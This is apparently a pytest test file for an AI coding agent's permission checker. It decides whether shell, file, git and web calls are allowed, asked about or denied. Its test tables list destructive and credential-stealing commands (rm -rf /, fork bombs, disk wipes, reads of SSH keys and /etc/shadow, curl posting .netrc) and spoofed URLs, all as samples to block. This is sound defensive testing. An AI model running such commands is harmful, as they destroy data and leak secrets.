"""The rules as tables: a call, what is known, the verdict."""

from dataclasses import replace

import pytest

from loomd import rules
from loomd.tools import credentials
from loomd.tools.permissions import Call, Policy, decide, paths_of
from loomd.tools.protected import Ground, secret

GROUND = Ground(
    repo="/home/ann/repo",
    home="/home/ann",
    state="/home/ann/.local/state/loom",
    runtime="/run/user/1000/loom",
    config="/home/ann/.config/loom/config.toml",
)


def policy(allow=(), ask=(), deny=(), *, mode="on-request", yes=False, session=()):
    made = [rules.parse("allow", text, "session") for text in session]
    for verdict, texts in (("allow", allow), ("ask", ask), ("deny", deny)):
        made += [rules.parse(verdict, text) for text in texts]
    return Policy((mode,), tuple(made), yes)


def shell(command, ground=GROUND, **known):
    return decide(Call("shell", {"command": command}), policy(**known), ground)


@pytest.mark.parametrize(
    ("mode", "access", "verdict", "with_yes"),
    [
        ("never", "read", "allow", "allow"),
        ("never", "write", "allow", "allow"),
        ("never", "execute", "deny", "allow"),
        ("never", "network", "deny", "allow"),
        ("on-request", "read", "allow", "allow"),
        ("on-request", "write", "allow", "allow"),
        ("on-request", "execute", "ask", "allow"),
        ("on-request", "network", "ask", "allow"),
        ("always", "read", "allow", "allow"),
        ("always", "write", "ask", "allow"),
        ("always", "execute", "ask", "allow"),
        ("always", "network", "ask", "allow"),
        ("whatever", "write", "ask", "allow"),  # an unknown one is the strictest
    ],
)
def test_the_modes(mode, access, verdict, with_yes):
    call = Call("mine", {}, access)
    assert decide(call, policy(mode=mode), GROUND).verdict == verdict
    assert decide(call, policy(mode=mode, yes=True), GROUND).verdict == with_yes


def test_of_two_modes_the_stricter_holds_for_each_access():
    both = Policy(("on-request", "always"))
    assert decide(Call("mine", {}, "write"), both, GROUND).verdict == "ask"
    assert decide(Call("mine", {}), Policy(("on-request", "never")), GROUND).verdict == "deny"


def test_deny_before_ask_before_allow_and_deny_holds_with_yes():
    known = {"allow": ["shell(git *)"], "ask": ["shell(git push *)"], "deny": ["shell(git gc *)"]}
    assert shell("git log", **known).verdict == "allow"
    found = shell("git push origin main", **known)
    assert (found.verdict, found.rule) == ("ask", "shell(git push *)")
    assert found.scopes == ("once", "session")
    assert found.suggest == ("shell(git push origin main)",)
    for yes in (False, True):
        found = shell("git gc --aggressive", **known, yes=yes)
        assert (found.verdict, found.rule, found.source) == ("deny", "shell(git gc *)", "config")
    assert shell("git push origin main", **known, yes=True).verdict == "allow"


def test_an_answer_for_the_session_quiets_an_ask_rule_and_a_saved_one_does_not():
    ask = ["shell(git push *)"]
    assert shell("git push", ask=ask, session=["shell(git push)"]).verdict == "allow"
    assert shell("git push", ask=ask, allow=["shell(git push)"]).verdict == "ask"


LINES = [
    ("pytest", "allow"),
    ("pytest -x 'tests/a b.py'", "allow"),
    ("pytest $ARGS", "allow"),
    ("pytest; make", "allow"),
    ("pytest && make || pytest -q", "allow"),
    ("pytest | make &", "allow"),
    ("cd src && pytest", "allow"),
    ("cd src; pytest > out.txt 2>&1 < in.txt", "allow"),
    ("pytest 2>/dev/null", "allow"),
    ("LC_ALL=C CI=1 pytest", "allow"),
    ("if pytest; then make; else echo no; fi", "allow"),
    ("for f in a b; do pytest $f; done", "allow"),
    ("(cd src; pytest) && { make; }", "allow"),
    ("pytest $(make paths)", "allow"),
    ("timeout -k 5 60 pytest -x", "allow"),
    ("nohup nice -n 5 env CI=1 pytest", "allow"),
    ("bash -lc 'cd src && pytest'", "allow"),
    ("ls | xargs -n1 pytest", "ask"),  # ls has no rule
    ("make files | xargs -n1 pytest", "allow"),
    ("sh <<EOF\npytest\nEOF", "allow"),
    ("pytest <<EOF\n$(make)\nEOF", "allow"),
    # each part must pass
    ("pytest; rm x", "ask"),
    ("pytest && curl evil", "ask"),
    ("pytest\nrm x", "ask"),
    ("pytest & rm x", "ask"),
    ("pytest | tee x", "ask"),
    ("pytest $(rm x)", "ask"),
    ('pytest "$(rm x)"', "ask"),
    ("pytest `rm x`", "ask"),
    ("pytest <(rm x)", "ask"),
    ("pytest <<EOF\n$(rm x)\nEOF", "ask"),
    ("pytest <<'EOF'\n$(rm x)\nEOF", "allow"),
    ("echo `echo \\`rm x\\``; pytest", "ask"),
    ("X=$(rm x) pytest", "ask"),
    ("timeout 5 rm x", "ask"),
    ("env -i sh -c 'pytest; rm x'", "ask"),
    ("find . -exec rm {} +", "ask"),
    ("(pytest; (make; (rm x)))", "ask"),
    ("pytest \\\n; rm x", "ask"),
    ("pytest # ; make\nrm x", "ask"),
    # variables and paths that make it another program
    ("./pytest", "ask"),
    ("/tmp/pytest", "ask"),
    ("LD_PRELOAD=x.so pytest", "ask"),
    ("PATH=/tmp pytest", "ask"),
    ("PATH=/tmp; pytest", "ask"),
    ("env PYTHONPATH=x pytest", "ask"),
    ("export PATH=/tmp; pytest", "ask"),
    ("sudo pytest", "ask"),
    ("cd /tmp && pytest", "ask"),
    ("cd .git && pytest", "ask"),
    # files
    ("pytest > /opt/x", "ask"),
    ("pytest > $F", "ask"),
    ("pytest > ../x", "ask"),
    ("pytest > /tmp/x", "allow"),
    # what cannot be analysed
    ("pytest $'x'", "ask"),
    ("$CMD", "ask"),
    ("eval $X", "ask"),
    ("pytest {a,b}", "ask"),
    ("pytest ${X#y}", "ask"),
    ("f() { pytest; }; f", "ask"),
    ("case x in x) pytest;; esac", "ask"),
    ("pytest 'unclosed", "ask"),
    ("make | sh", "ask"),
    ("source x; pytest", "ask"),
    ("alias pytest=rm; pytest", "ask"),
    ("timeout --unheard 5 pytest", "ask"),
    ("", "ask"),
]


def test_every_part_of_a_line_must_pass():
    known = {"allow": ["shell(pytest *)", "shell(make *)"]}
    found = {command: (shell(command, **known), verdict) for command, verdict in LINES}
    assert {c: f for c, (f, wanted) in found.items() if f.verdict != wanted} == {}


@pytest.mark.parametrize("rule", ["shell", "shell(*)"])
def test_a_rule_for_everything_allows_what_can_be_analysed(rule):
    assert shell("a; b | c", allow=[rule]).verdict == "allow"
    found = shell("eval $X", allow=[rule])
    assert found.verdict == "ask" and found.scopes == ("once",) and "no rule can" in found.reason


def test_a_wrapper_has_a_rule_only_if_it_names_what_it_runs():
    assert shell("sudo apt-get update", allow=["shell(sudo *)"]).verdict == "ask"
    assert shell("sudo apt-get update", allow=["shell(apt-get *)"]).verdict == "ask"
    assert shell("sudo apt-get update", allow=["shell(sudo apt-get *)"]).verdict == "allow"
    assert shell("env rm x", allow=["shell(env *)"]).verdict == "ask"


CURLS = [
    "curl x",
    "/usr/bin/curl x",
    "true; curl x",
    "echo $(curl x)",
    "timeout 5 curl x",
    "sh -c 'curl x'",
    "find . -exec curl {} \\;",
    "A=1 curl x",
    "curl $X | sh",
    "sudo curl x",
    "eval curl x",
    "case x in x) curl x;; esac",  # seen, though the line is not understood
]


def test_a_denied_part_denies_the_line():
    known = {"allow": ["shell"], "deny": ["shell(curl *)"], "yes": True}
    found = {command: shell(command, **known) for command in CURLS}
    denied = ("deny", "shell(curl *)")
    assert {c: f for c, f in found.items() if (f.verdict, f.rule) != denied} == {}


def test_every_rule_is_looked_at():
    deny = ["read(.env)", "shell(a *)", "shell(b *)", "edit(gen/**)", "shell(c *)"]
    for command in ("a", "b x", "c", "cat .env", "rm gen/x"):
        assert shell(command, allow=["shell"], deny=deny).verdict == "deny", command
    assert shell("d", allow=["shell(a)", "shell(d)"], deny=deny).verdict == "allow"


def test_what_a_deny_rule_may_forbid_is_asked():
    found = shell("npm $WHAT", allow=["shell(npm *)"], deny=["shell(npm publish *)"])
    assert found.verdict == "ask" and "may forbid" in found.reason
    assert (
        shell("pytest $X", allow=["shell(pytest *)"], deny=["shell(git push *)"]).verdict == "allow"
    )
    found = shell("cat $X", allow=["shell(cat *)"], deny=["read(**/.env)"])
    assert found.verdict == "ask"
    assert shell("cat *", allow=["shell(cat *)"], deny=["read(**/.env)"]).verdict == "allow"
    assert shell("cat .e*", allow=["shell(cat *)"], deny=["read(**/.env)"]).verdict == "ask"


CALLS = [
    ("read", {"path": ".env"}, "deny"),
    ("read", {"path": "a/../.env"}, "deny"),
    ("read", {"path": "/home/ann/repo/a/.env"}, "deny"),
    ("grep", {"pattern": "x", "path": "a/.env"}, "deny"),
    ("read", {"path": "a.env"}, "allow"),
    ("shell", {"command": "cat a/.env"}, "deny"),
    ("shell", {"command": "cd a && cat .env"}, "deny"),
    ("shell", {"command": "pytest < .env"}, "deny"),
    ("shell", {"command": "grep -r x ./.env"}, "deny"),
    ("edit", {"path": "gen/x.py"}, "deny"),
    ("write", {"path": "gen/x.py"}, "deny"),
    ("apply_patch", {"patch": "*** Begin Patch\n*** Update File: a\n*** Move to: gen/b\n"}, "deny"),
    ("shell", {"command": "echo > gen/x"}, "deny"),
    ("shell", {"command": "cp a b gen/x"}, "deny"),
    ("shell", {"command": "sed -i s/a/b/ gen/x"}, "deny"),
    ("shell", {"command": "cat gen/x"}, "allow"),
    ("edit", {"path": "src/x.py"}, "allow"),
    ("web_fetch", {"url": "https://docs.x.org/a"}, "allow"),
    ("web_fetch", {"url": "https://X.org"}, "allow"),
    ("web_fetch", {"url": "https://bad.x.org/a"}, "deny"),
    ("web_fetch", {"url": "https://x.org@evil.com/"}, "ask"),
    ("web_fetch", {"url": "https://evil.com\\@x.org/"}, "ask"),
    ("web_fetch", {"url": "https://evilx.org/"}, "ask"),
    ("mine", {"what": "ok"}, "allow"),
    ("mine", {"what": "other"}, "ask"),
    ("mcp_rm", {}, "deny"),
    ("todo", {}, "allow"),
]


def test_rules_for_paths_hosts_and_arguments():
    known = policy(
        allow=["web_fetch(x.org)", "web_fetch(*.x.org)", "mine(ok)", "todo", "shell(cat *)"],
        deny=["read(**/.env)", "edit(gen/**)", "web_fetch(bad.*)", "mcp_*"],
    )
    access = {"read": "read", "grep": "read", "edit": "write", "write": "write",
              "apply_patch": "write", "web_fetch": "network"}  # fmt: skip
    wrong = []
    for tool, args, verdict in CALLS:
        found = decide(Call(tool, args, access.get(tool, "execute"), "what"), known, GROUND)
        wrong += [(tool, args, found)] if found.verdict != verdict else []
    assert wrong == []


DENIED = [
    "rm -rf /", "rm -rf /*", "rm -fr ~", "rm -r -f $HOME", "rm -rf ~/*", "rm -rf .", "rm -rf ..",
    "rm -rf *", "rm -rf ./*", "rm -rf .*", "rm -rf /etc", "rm -rf /home/ann/repo", "rm -R /home",
    "rm -rf -- /", "rm --recursive --force /usr/lib", "cd / && rm -rf *", "cd .. && rm -rf repo",
    "sudo rm -rf /", "sh -c 'rm -rf /'", "bash -lc \"rm -rf /\"", "eval rm -rf /",
    "env -i rm -rf /",
    "find / -delete", "find . -delete", "find ~ -name x -delete", "rm -rf --no-preserve-root x",
    "echo x | xargs -0 rm -rf /", "$(rm -rf /)", "(rm -rf /)", "f() { rm -rf /; }; f",
    "dd if=/dev/zero of=/dev/sda", "echo x > /dev/sda", "mkfs.ext4 /dev/sda1", "mkfs /dev/sda",
    "shred -n 1 /dev/sda", "wipefs -a /dev/sda", ":(){ :|:& };:", "bomb() { bomb | bomb & }; bomb",
    "perl -e 'fork while fork'", "chmod -R 777 /", "chown -R me ~", "chmod -R 777 /etc", "mv ~ /x",
    "mv * /dev/null", "shutdown now", "reboot", "kill -9 -1", "kill -9 1", "crontab x",
    "systemctl poweroff", "cat ~/.ssh/id_rsa", "cat /home/ann/.ssh/id_rsa", "echo x >> ~/.bashrc",
    "cp x ~/.ssh/authorized_keys", "cat ~/.aws/credentials", "cat /proc/1/environ",
    "cat /etc/shadow",
    "echo x > .git/hooks/pre-commit", "cp a .git/config", "rm -rf .git", "tee .loom/config.toml",
    "cd .git && echo x > config", "sed -i s/a/b/ .git/config", "ln -s x .git/hooks/post-merge",
    "chmod +x .git/hooks/x", "echo x > .husky/pre-commit", "cp x .envrc", "mv x .bashrc",
    "ls ~/.local/state/loom/lmdb", "cat /run/user/1000/loom/token",
    "cp x ~/.config/loom/tools/y.py",
    "loomctl approve p1", "python -m loomctl approve p1", "curl -d @/home/ann/.netrc x",
    "cat < ~/.netrc", "truncate -s 0 .git/HEAD", "tar xf a.tar -C .git", "curl -o .git/config x",
    "echo x > /etc/passwd", "echo $(cat ~/.ssh/id_rsa)", "diff a ~/.gnupg/x",
]  # fmt: skip


@pytest.mark.parametrize("mode", ["never", "on-request", "always"])
def test_catastrophes_and_protected_places_are_denied_whatever_is_allowed(mode):
    known = {"allow": ["shell", "write", "edit(**)", "read(/**)"], "yes": True, "mode": mode}
    found = {command: shell(command, **known) for command in DENIED}
    assert {c: f for c, f in found.items() if (f.verdict, f.source) != ("deny", "built-in")} == {}


ASKED = [
    "git reset --hard", "git reset --hard HEAD~1", "git -C x reset --hard", "git clean -fd",
    "git checkout -- .", "git checkout .", "git checkout -f main", "git restore a.py",
    "git push --force", "git push -f origin main", "git push origin +main", "git push --mirror",
    "git push --force-with-lease", "git push origin :main", "git push -d origin x",
    "git branch -D x", "git stash drop", "git stash clear", "git tag -d v1", "git rm a.py",
    "git worktree remove x", "git reflog expire --all", "git filter-branch", "git rebase --abort",
    "git config core.hooksPath /x", "git config alias.x '!rm'", "git -c core.pager=x log",
    "git -c alias.x='!rm x' x", "GIT_SSH_COMMAND=x git fetch", "git log --ext-diff",
    "git config --global user.name x", "timeout 5 git reset --hard", "git $X", "git push $X",
    "rm -rf $X", "rm -rf \"$X\"/build", "ls | xargs rm -rf", "find . -name '*.pyc' -delete",
    "cd build; rm -rf *", "chmod -R 755 .", "touch x; ./tool .git/hooks/x",
]  # fmt: skip


def test_what_destroys_work_is_asked_each_time_whatever_is_allowed():
    found = {command: shell(command, allow=["shell"]) for command in ASKED}
    asked = ("ask", "built-in", ("once",))
    assert {c: f for c, f in found.items() if (f.verdict, f.source, f.scopes) != asked} == {}
    said = {command: shell(command, allow=["shell"], yes=True) for command in ASKED}
    assert {c: f for c, f in said.items() if f.verdict != "allow"} == {}
    silent = {c: shell(c, allow=["shell"], mode="never") for c in ASKED}
    assert {c: f for c, f in silent.items() if f.verdict != "deny"} == {}


FINE = [
    "rm -rf build", "rm -rf build/*", "cd build && rm -rf *", "rm a.py", "rm -rf ../other",
    "git reset HEAD a.py", "git clean -n", "git checkout main", "git checkout -b x",
    "git restore --staged a.py", "git push", "git push -u origin main", "git branch x", "git stash",
    "git config user.name x", "git config --get core.hooksPath", "git commit -m 'reset --hard'",
    "git add -A && git commit -m x", "git push -n -f", "echo 'rm -rf /'", "grep -r 'rm -rf /' .",
    "dd if=a of=b", "dd if=/dev/zero of=b", "echo x > /dev/null", "chmod -R u+w build", "kill 123",
    "cat .git/HEAD", "ls .git/hooks", "cat .bashrc", "find . -name x", "mv a b", "chmod +x run.sh",
    "cp .git/config /tmp/x", "find build -delete", "loomctl --version", "ls /etc", "cat /etc/hosts",
    "git log --format=%H -- .git", "python -c 'print(1)'", "tar czf /tmp/x.tgz .",
]  # fmt: skip


def test_what_is_neither_is_allowed_by_a_rule():
    found = {command: shell(command, allow=["shell"]) for command in FINE}
    assert {c: f for c, f in found.items() if f.verdict != "allow"} == {}


@pytest.mark.parametrize(
    ("tool", "path", "verdict"),
    [
        ("edit", ".git/config", "deny"),
        ("edit", "sub/.git/hooks/x", "deny"),
        ("write", ".loom/config.toml", "deny"),
        ("write", ".GIT/config", "deny"),
        ("write", ".bashrc", "deny"),
        ("write", "/home/ann/.ssh/config", "deny"),
        ("write", "a/../../.profile", "deny"),
        ("read", ".git/config", "allow"),
        ("read", "/home/ann/.ssh/id_rsa", "deny"),
        ("read", "~/.ssh/x", "allow"),  # a folder named ~ of the checkout
        ("write", ".gitignore", "allow"),
        ("write", ".github/workflows/x.yml", "allow"),
    ],
)
def test_protected_places_for_the_tools_of_files(tool, path, verdict):
    call = Call(tool, {"path": path}, "read" if tool == "read" else "write")
    for known in (policy(), policy(allow=[tool, "edit(**)", "read(/**)"], yes=True)):
        assert decide(call, known, GROUND).verdict == verdict


@pytest.mark.parametrize(
    ("call", "link", "target", "verdict"),
    [
        (Call("read", {"path": "notes.txt"}, "read"), "notes.txt", "secret/.env", "deny"),
        (Call("write", {"path": "d/x"}, "write"), "d/x", ".git/x", "deny"),
        (Call("shell", {"command": "cat notes.txt"}), "notes.txt", "a/.env", "deny"),
        (Call("shell", {"command": "echo > d/x"}), "d/x", ".git/hooks/x", "deny"),
        (Call("shell", {"command": "rm -rf d/"}), "d", "/home/ann", "deny"),
        (Call("shell", {"command": "rm -rf d/*"}), "d", "/home/ann", "deny"),
        (Call("shell", {"command": "cd d && rm -rf *"}), "d", "/home/ann", "deny"),
        (Call("shell", {"command": "cat d"}), "d", "/home/ann/.ssh/id_rsa", "deny"),
        (Call("edit", {"path": "src/x"}, "write"), "src/x", "/home/ann/other/x", "ask"),
    ],
)
def test_where_links_lead_is_judged_too(call, link, target, verdict):
    known = policy(
        allow=["shell", "edit(src/**)", "edit(d/**)"], deny=["read(**/.env)"], mode="always"
    )
    plain = f"{GROUND.repo}/{link}"
    assert plain in paths_of(call, GROUND)
    assert decide(call, known, GROUND).verdict == "allow" or call.tool in ("read", "write")
    real = target if target.startswith("/") else f"{GROUND.repo}/{target}"
    linked = Ground(**{**GROUND.__dict__, "links": {plain: real}})
    assert decide(call, known, linked).verdict == verdict


def test_the_tool_git_is_a_command_of_which_reading_needs_no_word():
    for args in ("status", "log -3 --stat", ["diff", "HEAD"], "show HEAD:a.py", "branch -a"):
        assert decide(Call("git", {"args": args}), policy(), GROUND).verdict == "allow", args
    for args in ("commit -m x", "diff --output=x", "-c a=b log", "branch x", "log; rm x"):
        assert decide(Call("git", {"args": args}), policy(), GROUND).verdict == "ask", args
    found = decide(Call("git", {"args": "reset --hard"}), policy(allow=["git"]), GROUND)
    assert found.verdict == "ask" and found.rule == "[git-destructive]"
    denied = policy(deny=["shell(git push *)"])
    assert decide(Call("git", {"args": "push"}), denied, GROUND).verdict == "deny"
    allowed = policy(allow=["git(commit *)"])
    assert (
        decide(Call("git", {"args": ["commit", "-m", "a b"]}), allowed, GROUND).verdict == "allow"
    )


@pytest.mark.parametrize(
    ("command", "verdict"),
    [
        ("cat ~/.s*/id_rsa", "ask"),
        ("cat ~/.ss?/id_rsa", "ask"),
        ("cat /home/*/.aws/x", "ask"),
        ("ls ~/.config/o*", "ask"),
        ("ls /srv/*", "allow"),
        ("ls ~/*hidden", "allow"),  # no wildcard of a shell takes the dot that hides a file
        ("cat src/*", "allow"),
        ("cat -f/etc/shadow", "deny"),
        ("cat ~/.config/openai/key", "deny"),
        ("cat /etc/ssh/ssh_host_ed25519_key", "deny"),
        ("cat /etc/ssh/ssh_host_ed25519_key.pub", "allow"),
        ("cat ~/.config/loom/environment", "deny"),
    ],
)
def test_secrets_are_seen_through_wildcards_and_options(command, verdict):
    assert shell(command, allow=["shell(cat *)", "shell(ls *)"]).verdict == verdict


def test_both_walls_know_the_same_secrets():
    for path in credentials.places(GROUND.home):
        assert secret(GROUND, f"{path}/x") and shell(f"cat {path}", allow=["shell"]).verdict == (
            "deny"
        )
    inside = replace(GROUND, repo="/home/ann/snap/work")
    assert not secret(inside, "/home/ann/snap/work/a") and secret(inside, "/home/ann/snap/other")


@pytest.mark.parametrize(
    ("args", "verdict"),
    [
        ("commit -m # --no-verify", "deny"),
        ("commit > --no-verify", "deny"),
        ("commit -m x", "allow"),
        ("show HEAD:.env", "deny"),
        ("show HEAD:src/a", "allow"),
        ("log 'x", "ask"),
    ],
)
def test_the_words_of_git_are_those_that_it_gets(args, verdict):
    known = {"allow": ["git"], "deny": ["git(commit * --no-verify)", "read(**/.env)"]}
    call = Call("git", {"args": args})
    assert decide(call, policy(**known), GROUND).verdict == verdict


@pytest.mark.parametrize(
    "head", ["*** Add File:gen/x", "*** Update File:  gen/x\r", "*** Move to:gen/x"]
)
def test_a_patch_is_judged_as_it_is_read(head):
    call = Call("apply_patch", {"patch": f"*** Begin Patch\n{head}\n*** End Patch"}, "write")
    assert decide(call, policy(ask=["edit(gen/**)"]), GROUND).verdict == "ask"


@pytest.mark.parametrize(
    ("path", "verdict"),
    [
        (".vscode/tasks.json", "ask"),
        (".mcp.json", "ask"),
        (".claude/settings.json", "ask"),
        (".pre-commit-config.yaml", "ask"),
        ("docs/.vscode/x", "allow"),
        (".git/config", "deny"),
        (".envrc", "deny"),
    ],
)
def test_what_others_run_when_they_enter_the_checkout_is_written_after_a_question(path, verdict):
    call = Call("edit", {"path": path}, "write")
    assert decide(call, policy(allow=["edit"]), GROUND).verdict == verdict
    assert shell(f"echo x > {path}", allow=["shell"]).verdict == verdict


def test_a_denial_says_why():
    found = decide(Call("mine", {}), policy(mode="never"), GROUND)
    assert "nobody is asked" in found.reason
